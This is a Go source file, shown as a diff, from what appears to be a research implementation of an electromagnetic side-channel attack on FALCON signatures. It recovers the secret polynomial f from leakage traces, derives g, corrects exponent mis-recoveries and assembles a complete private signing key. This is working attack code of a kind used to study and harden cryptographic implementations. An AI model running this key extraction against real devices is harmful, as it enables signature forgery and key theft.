@@ -1,0 +1,174 @@
+package core
+
+import (
+	"errors"
+	"fmt"
+	"sort"
+
+	"falcondown/internal/emleak"
+	"falcondown/internal/falcon"
+	"falcondown/internal/fft"
+	"falcondown/internal/fpr"
+	"falcondown/internal/ntru"
+	"falcondown/internal/ntt"
+)
+
+// RecoveryReport summarizes a full key extraction.
+type RecoveryReport struct {
+	Values      []ValueResult // per recovered FPR value (2 per coefficient)
+	F           []int16       // recovered secret element f
+	G           []int16       // derived g = h·f mod q
+	MinPrune    float64       // weakest prune correlation across values
+	Significant bool          // every component above the confidence threshold
+}
+
+// ErrImplausibleKey reports that the recovered FFT(f) does not invert to a
+// plausible FALCON secret (the attack's built-in failure detection: a
+// wrong coefficient makes g = h·f mod q large with overwhelming
+// probability, so a corrupted recovery never silently yields a bad key).
+var ErrImplausibleKey = errors.New("core: recovered key fails plausibility checks")
+
+// gBound is the sanity bound on |g_i| for a correctly recovered key; true
+// FALCON g coefficients are tens at most (σ_{f,g} ≈ 4 at n=512).
+const gBound = 512
+
+// RecoverKey runs the complete attack of the paper: extract every
+// coefficient of FFT(f) from the traces, invert the FFT to f, derive
+// g = h·f mod q from the public key, re-solve the NTRU equation for F and
+// G, and assemble a fully functional signing key.
+//
+// When the assembled f fails the plausibility check, the recovery does
+// not give up immediately: exponent recovery has a documented tie-family
+// ambiguity (see attackExponent), so the tied alternatives of the least
+// confident values are substituted and re-checked — an error-correction
+// pass that costs one n·log n consistency test per candidate.
+func RecoverKey(obs []emleak.Observation, pub *falcon.PublicKey, cfg Config) (*falcon.PrivateKey, *RecoveryReport, error) {
+	fFFT, values, err := AttackFFTf(obs, cfg)
+	if err != nil {
+		return nil, nil, err
+	}
+	f := fft.RoundToInt16(fFFT)
+	n := len(f)
+	if n != pub.Params.N {
+		return nil, nil, fmt.Errorf("core: campaign degree %d does not match public key degree %d", n, pub.Params.N)
+	}
+
+	report := &RecoveryReport{Values: values, F: f, MinPrune: 2, Significant: true}
+	for _, v := range values {
+		if v.PruneCorr < report.MinPrune {
+			report.MinPrune = v.PruneCorr
+		}
+		if !v.Significant {
+			report.Significant = false
+		}
+	}
+
+	// g = h·f mod q; a single wrong coefficient of f scrambles g into
+	// uniformly large values, so the bound check below detects failure.
+	g, gErr := deriveG(pub, f)
+	if gErr != nil {
+		// Error-correction pass: walk the exponent tie families of the
+		// recovered values, preferring the ones closest to the winner.
+		if fFix, gFix, ok := correctExponents(pub, fFFT, values); ok {
+			f, g = fFix, gFix
+			report.F = f
+		} else {
+			return nil, report, gErr
+		}
+	}
+	report.G = g
+
+	F, G, err := ntru.Solve(f, g)
+	if err != nil {
+		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
+	}
+	priv, err := falcon.NewPrivateKey(n, f, g, F, G)
+	if err != nil {
+		return nil, report, fmt.Errorf("%w: %v", ErrImplausibleKey, err)
+	}
+	for i := range priv.H {
+		if priv.H[i] != pub.H[i] {
+			return nil, report, fmt.Errorf("%w: reconstructed public key mismatch", ErrImplausibleKey)
+		}
+	}
+	return priv, report, nil
+}
+
+// deriveG computes g = h·f mod q and checks the plausibility bounds: a
+// FALCON f must be invertible mod q (keygen guarantees it), and a single
+// wrong coefficient of f scrambles g into uniformly large values, so the
+// coefficient bound detects corrupted recoveries. The invertibility check
+// also rejects degenerate near-zero candidates for which g = h·f would be
+// trivially small.
+func deriveG(pub *falcon.PublicKey, f []int16) ([]int16, error) {
+	if !ntt.Invertible(ntt.FromSigned(f)) {
+		return nil, fmt.Errorf("%w: recovered f not invertible mod q", ErrImplausibleKey)
+	}
+	gq := ntt.MulModQ(pub.H, ntt.FromSigned(f))
+	g := make([]int16, len(f))
+	for i, v := range gq {
+		c := ntt.Center(v)
+		if c < -gBound || c > gBound {
+			return nil, fmt.Errorf("%w: g[%d] = %d", ErrImplausibleKey, i, c)
+		}
+		g[i] = int16(c)
+	}
+	// The keygen acceptance test: a consistent-but-corrupted (f, g) — for
+	// example one whose FFT is nearly zero in a bin where the public key
+	// also happens to be small — passes the coefficient bounds yet yields
+	// a trapdoor of unusable Gram-Schmidt quality. Rejecting it here sends
+	// the error-correction pass looking for the right candidate instead of
+	// assembling a key the sampler cannot use.
+	if ntru.GSNorm(f, g) > 1.17*1.17*float64(falcon.Q) {
+		return nil, fmt.Errorf("%w: Gram-Schmidt norm above keygen bound", ErrImplausibleKey)
+	}
+	return g, nil
+}
+
+// correctExponents searches the exponent tie families of the recovered
+// values for a substitution that makes the key plausible. Single-value
+// substitutions are tried first (the overwhelmingly common failure is one
+// mis-tie-broken exponent), ordered by ascending exponent confidence.
+func correctExponents(pub *falcon.PublicKey, fFFT []fft.Cplx, values []ValueResult) ([]int16, []int16, bool) {
+	type option struct {
+		idx  int // value index (2k for Re, 2k+1 for Im)
+		alts []int
+		corr float64
+	}
+	var opts []option
+	for i, v := range values {
+		if len(v.ExpAlternatives) > 0 {
+			opts = append(opts, option{idx: i, alts: v.ExpAlternatives, corr: v.ExpCorr})
+		}
+	}
+	sort.Slice(opts, func(a, b int) bool { return opts[a].corr < opts[b].corr })
+	if len(opts) > 16 {
+		opts = opts[:16] // bound the search; deeper failures are reported
+	}
+	trial := make([]fft.Cplx, len(fFFT))
+	for _, o := range opts {
+		k, isIm := o.idx/2, o.idx%2 == 1
+		orig := fFFT[k]
+		for _, e := range o.alts {
+			copy(trial, fFFT)
+			z := orig
+			if isIm {
+				z.Im = withExponent(z.Im, e)
+			} else {
+				z.Re = withExponent(z.Re, e)
+			}
+			trial[k] = z
+			f := fft.RoundToInt16(trial)
+			if g, err := deriveG(pub, f); err == nil {
+				return f, g, true
+			}
+		}
+	}
+	return nil, nil, false
+}
+
+// withExponent replaces the biased exponent field of v.
+func withExponent(v fpr.FPR, biasedExp int) fpr.FPR {
+	const expMask = uint64(0x7FF) << 52
+	return fpr.FPR(uint64(v)&^expMask | uint64(biasedExp)<<52)
+}
